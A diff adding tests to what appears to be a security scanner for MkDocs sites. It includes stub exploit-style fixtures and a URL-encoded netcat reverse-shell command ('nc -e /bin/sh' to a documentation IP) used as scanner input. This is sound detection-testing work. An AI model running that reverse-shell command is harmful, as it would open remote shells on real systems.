@@ -14,7 +14,7 @@ from carriers import passage
 from mkdocs_threatgate.looking.novelty import added, is_fresh, pieces, unseen_blocks
 from mkdocs_threatgate.model import Rendering
 from mkdocs_threatgate.sources.hypertext import as_markdown, breaks_words, shown_lines, squeeze
-from mkdocs_threatgate.sources.site import contents, page_address, read_output
+from mkdocs_threatgate.sources.site import Output, contents, page_address, read_output
 
 SNIPPETS = """\
 markdown_extensions:
@@ -102,6 +102,43 @@ def test_what_was_dismissed_is_not_told_again_for_the_marks_of_its_markdown(tmp_
     blog.commit()
     built = blog.build("--quiet")
     assert (built.code, built.shown) == (0, []), built.err
+
+
+SCRIPT = """\
+Notes.
+
+```python
+import requests, sys, time, json, re
+def exploit(target):
+    payload = "demo"
+    requests.post(target + payload)
+    print("[+] pwned")
+```
+"""
+ANOTHER = """\
+<pre><code>import requests, sys, time, json, re
+def attack(target):
+    shellcode = 'other'
+    requests.put(target, shellcode)
+    print('[+] vulnerable')</code></pre>
+"""
+"""Other code than the script, with the same first line."""
+
+
+def test_code_that_begins_like_what_was_dismissed_is_told_if_it_goes_on_otherwise(tmp_path: Path) -> None:
+    blog = Blog(tmp_path / "blog").start(f"{CONFIG}hooks: [hook.py]\n").signed("liu@example.com")
+    path = blog.post(declaration=NOTHING, body=SCRIPT)
+    blog.write("hook.py", "")
+    blog.commit()
+    (found,) = blog.check().report["findings"]
+    told = blog.threatgate("dismiss", path, found["fingerprint"], "--reason", "ours", "--until", "2099-01-01")
+    assert told.code == 0, told.err
+    blog.commit()
+    assert blog.build("--quiet").shown == []
+    blog.write("hook.py", f"def on_page_content(html, **_):\n    return html + {ANOTHER!r}\n")
+    blog.commit()
+    built = blog.build("--quiet")
+    assert (built.code, [one.rule for one in built.shown]) == (1, ["TG403"]), built.err
 
 
 def test_a_title_that_a_hook_gives_a_page_must_be_declared(tmp_path: Path) -> None:
@@ -262,6 +299,16 @@ def test_a_search_index_is_read_by_the_pages_that_it_repeats(tmp_path: Path) -> 
         "index.html": ["config", "lang", "en"],
     }
     assert [page_address(one) for one in ("", "a/", "a.html")] == ["index.html", "a/index.html", "a.html"]
+
+
+def test_words_joined_by_percent_signs_are_no_address_but_in_a_search_index() -> None:
+    said = "nc%20-e%20/bin/sh%20203.0.113.7%204444"
+    data = json.dumps({"a": said, "b": "one/two/#three"}).encode()
+    ((_, rendering),) = contents(Output("a.json", data, len(data)), "site/a.json").texts
+    assert rendering.markup.split("\n") == ["a", said, "b"]
+    data = json.dumps({"docs": [{"location": f"a/#{said}"}]}).encode()
+    held = contents(Output("search/search_index.json", data, len(data)), "site/x").texts
+    assert dict(held)["a/index.html"].markup.split("\n") == ["location", f"a/#{said}"]
 
 
 def test_hostile_markup_takes_time_in_proportion() -> None:
